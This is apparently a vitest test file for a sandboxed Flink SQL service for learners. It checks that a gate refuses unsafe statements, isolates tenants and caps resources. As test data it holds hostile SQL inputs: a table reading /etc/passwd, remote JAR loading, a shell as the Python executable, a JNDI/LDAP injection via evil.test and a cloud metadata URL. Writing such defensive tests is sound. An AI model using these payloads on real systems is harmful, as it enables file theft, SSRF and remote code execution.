/** Group Q over HTTP: what the gate inside Flink lets pass, as a learner asks for it, beside a learner whose query goes on. */
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import { sqlCheckedSchema } from '#sandbox/protocol/sql.ts';
import { prefixOf } from '#sandbox/tenancy/prefix.ts';
import { retainedBytes } from '../../retained-bytes.ts';
import { until } from '../../sandbox/test-server.ts';
import type { Product } from '../learners.ts';
import { ENDLESS, type SqlLearners, START_MS, STOP_MS } from '../sql-learners.ts';

const REFUSAL_MS = 1000;
/** So many rows take 11 MB or more when they are kept, besides some 7 MB that a running query retains: its newest rows, events and connections. */
const ROWS = 70_000;
const RETAINED_LIMIT_BYTES = 10 * 1024 * 1024;
const MEASURED_EVERY_MS = 100;
const FILE_TABLE = `CREATE TABLE p (l STRING) WITH ('connector'='filesystem', 'path'='file:///etc/passwd', 'format'='csv', 'csv.field-delimiter'='~')`;

const kafkaTable = (options: string) =>
  `CREATE TABLE k (id STRING) WITH ('connector'='kafka', 'topic'='orders', 'format'='json'${options ? `, ${options}` : ''});`;

export function sqlCases(
  product: Product,
  { body, start, read, run, ended, jobsOf, stop, expectNeighbour, bob }: SqlLearners,
): void {
  test(
    'tables, generated rows, views, windows, joins, inserts and plans are all let through',
    async () => {
      const done =
        await run(`CREATE TABLE big_orders (id STRING, total_cents BIGINT) WITH ('connector'='kafka', 'topic'='big-orders', 'format'='json');
CREATE TABLE gen (n INT, s STRING) WITH ('connector'='datagen', 'number-of-rows'='10');
CREATE VIEW named AS SELECT n, UPPER(s) AS s FROM gen;
SELECT COUNT(*) AS n FROM named;
EXPLAIN SELECT window_start, COUNT(*) FROM TABLE(TUMBLE(TABLE orders, DESCRIPTOR(placed_at), INTERVAL '1' MINUTE)) GROUP BY window_start, window_end;
SET 'table.local-time-zone' = 'UTC';
SELECT a.n FROM gen a JOIN gen b ON a.n = b.n;`);
      expect(done.result).toMatchObject({ kind: 'sql-finished' });
      expect(done.sql?.results.find(({ index }) => index === 4)?.table.rows).toEqual([['10']]);
    },
    START_MS,
  );

  const refused: [what: string, code: string, statements: string[]][] = [
    ['a file as a table', 'option_not_allowed', [`${FILE_TABLE}; SELECT * FROM p;`]],
    [
      'code of its own',
      'statement_not_allowed',
      [`ADD JAR '/opt/flink/lib/flink-cep.jar';`, `ADD JAR 'http://127.0.0.1:8081/x.jar';`, `REMOVE JAR '/x.jar';`, 'SHOW JARS;'],
    ],
    [
      'a setting of the cluster',
      'option_not_allowed',
      [
        ...[
          'execution.target=local',
          'rest.address=127.0.0.1',
          'pipeline.jars=x',
          'pipeline.classpaths=x',
          'python.executable=/bin/sh',
        ],
        ...['execution.checkpointing.dir=file:///tmp/c', 'env.java.opts.all=-Dx', 'parallelism.default=1000', 'sandbox.prefix=u'],
      ].map((setting) => `SET '${setting.replace('=', "' = '")}';`),
    ],
    [
      'another broker',
      'option_not_allowed',
      [
        kafkaTable(`'properties.bootstrap.servers'='evil.test:9092'`),
        kafkaTable(
          `'properties.sasl.jaas.config'='com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.test";'`,
        ),
        kafkaTable(`'properties.sasl.oauthbearer.token.endpoint.url'='file:///etc/passwd'`),
        kafkaTable(`'properties.ssl.truststore.location'='/etc/passwd'`),
        kafkaTable(`'properties.interceptor.classes'='evil.I'`),
        kafkaTable(`'value.avro-confluent.url'='http://169.254.169.254'`),
        `CREATE TABLE k (id STRING) WITH ('connector'='kafka', 'topic-pattern'='.*', 'format'='json');`,
      ],
    ],
  ];
  test.each(refused)(
    '%s is refused with %s, in under a second, by Run and while typing, and no job comes of it',
    async (_what, code, statements) => {
      for (const statement of statements) {
        const checked = sqlCheckedSchema.parse(
          (await product.api('ada')('POST', '/api/sql/check', { body: body(statement) })).body,
        );
        expect(checked, statement).toMatchObject({ checked: true });
        expect(checked.checked && checked.errors[0]?.code, statement).toBe(code);
        // Any one of them may meet other work of the machine.
        let quickestMs = Number.POSITIVE_INFINITY;
        for (let attempt = 0; attempt < 3 && quickestMs >= REFUSAL_MS; attempt++) {
          const done = await run(statement);
          expect(done.result, statement).toMatchObject({ kind: 'sql-failed', error: { code } });
          expect(done.sql?.statements.filter(({ jobId }) => jobId !== null)).toEqual([]);
          quickestMs = Math.min(quickestMs, (done.result?.durationMs ?? 0) - (done.sql?.statements[0]?.endMs ?? 0));
        }
        expect(quickestMs).toBeLessThan(REFUSAL_MS);
      }
    },
    START_MS,
  );

  test(
    "a neighbour's job cannot be listed, described or stopped, and its topic does not exist",
    async () => {
      expect(bob.job).toMatch(/^[0-9a-f]{32}$/);
      for (const sql of [
        'SHOW JOBS;',
        `DESCRIBE JOB '${bob.job}';`,
        `STOP JOB '${bob.job}';`,
        `STOP JOB '${bob.job}' WITH SAVEPOINT;`,
      ])
        expect((await run(sql)).result, sql).toMatchObject({ kind: 'sql-failed', error: { code: 'statement_not_allowed' } });
      expect(await product.api('ada')('DELETE', `/api/runs/${bob.run}`)).toMatchObject({ status: 404 });
      expect((await jobsOf('ada')).map(({ jobId }) => jobId)).not.toContain(bob.job);
      await expectNeighbour();
      const foreign = [...(await product.stack.kafka.listTopics()).keys()].filter((name) => prefixOf(name) !== null);
      expect(foreign.length).toBeGreaterThan(2);
      for (const topic of foreign) {
        const { result } = await run(`SELECT * FROM orders /*+ OPTIONS('topic'='${topic}') */;`);
        expect(result).toMatchObject({ kind: 'sql-failed', error: { code: 'unknown_topic' } });
      }
    },
    START_MS,
  );

  test(
    "a fifth job is refused, the four before it end with the run, and the neighbour's continues",
    async () => {
      const table = `CREATE TABLE d (n INT) WITH ('connector'='datagen', 'rows-per-second'='1'); CREATE TABLE h (n INT) WITH ('connector'='blackhole');`;
      const done = await run(`${table} ${'INSERT INTO h SELECT n FROM d; '.repeat(7)}`);
      expect(done.result).toMatchObject({ kind: 'sql-failed', error: { code: 'too_many_jobs' } });
      expect(done.sql?.statements.filter(({ jobId }) => jobId !== null)).toHaveLength(4);
      await until(
        () => jobsOf('ada'),
        (jobs) => jobs.every(({ state }) => state !== 'RUNNING'),
        STOP_MS,
      );
      await expectNeighbour();
    },
    START_MS,
  );

  describe('statements that are too much', () => {
    test.each([
      ['70 KB', 'statement_too_long', `SELECT '${'x'.repeat(70_000)}';`],
      ['20,000 brackets', 'too_complex', `SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)};`],
      ['half a text', 'invalid_sql', "SELECT 'x"],
      ['4,000 statements', 'too_complex', 'SELECT 1;\n'.repeat(4000)],
      ['a zero byte', 'invalid_sql', 'SELECT \u0000 1;'],
      ['a name of 60,000 letters', 'invalid_sql', `SELECT ${'x'.repeat(60_000)};`],
    ])(
      "one of %s is the learner's mistake, with a code",
      async (_what, code, sql) => {
        const done = await run(sql);
        expect(done).toMatchObject({ status: 'finished', error: null, result: { kind: 'sql-failed' } });
        const codes = code === 'too_complex' ? ['too_complex', 'invalid_sql', 'failed'] : [code];
        expect(codes).toContain(done.result?.kind === 'sql-failed' ? done.result.error.code : '');
      },
      START_MS,
    );

    test(
      'ten thousand rows a second for nine seconds neither grow the server nor the answer',
      async () => {
        await run('SELECT 1 AS n;'); // what is loaded once is no growth
        const before = await retainedBytes();
        const id = await start(
          `CREATE TABLE d (n INT, s STRING) WITH ('connector'='datagen', 'rows-per-second'='9999'); SELECT * FROM d;`,
        );
        const flooded = await until(
          () => read(id),
          ({ elapsedMs = 0, sql }) => elapsedMs > 9000 && (sql?.statements[2]?.changeCount ?? 0) > ROWS,
          START_MS,
        );
        expect(JSON.stringify(flooded).length).toBeLessThan(1024 * 1024);
        const during = (await leastRetained()) - before;
        await stop(id);
        console.log(`${flooded.sql?.statements[2]?.changeCount} rows: ${during} bytes retained beside them`);
        expect(during).toBeLessThan(RETAINED_LIMIT_BYTES);
        expect((await leastRetained()) - before).toBeLessThan(RETAINED_LIMIT_BYTES);
      },
      START_MS,
    );

    test(
      'two runs at the same moment are one after the other, and one of them is cancelled',
      async () => {
        // Either of them may be the first.
        const ids = await Promise.all([start(ENDLESS), start(ENDLESS)]);
        const first = await Promise.race(ids.map(ended));
        expect(first).toMatchObject({ status: 'finished', result: { kind: 'cancelled' } });
        const second = ids.find((id) => id !== first.runId) ?? '';
        await until(
          () => read(second),
          ({ status, sql }) => status === 'running' && (sql?.statements[1]?.changeCount ?? 0) > 0,
          START_MS,
        );
        await stop(second);
        await until(
          () => jobsOf('ada'),
          (jobs) => jobs.every(({ state }) => state !== 'RUNNING'),
          STOP_MS,
        );
      },
      START_MS,
    );
  });
}

/** The least of some measurements: an answer on its way is held for a moment, a leak in each of them. */
async function leastRetained(): Promise<number> {
  let least = Number.POSITIVE_INFINITY;
  for (let measured = 0; measured < 8; measured++) {
    least = Math.min(least, await retainedBytes());
    await sleep(MEASURED_EVERY_MS);
  }
  return least;
}
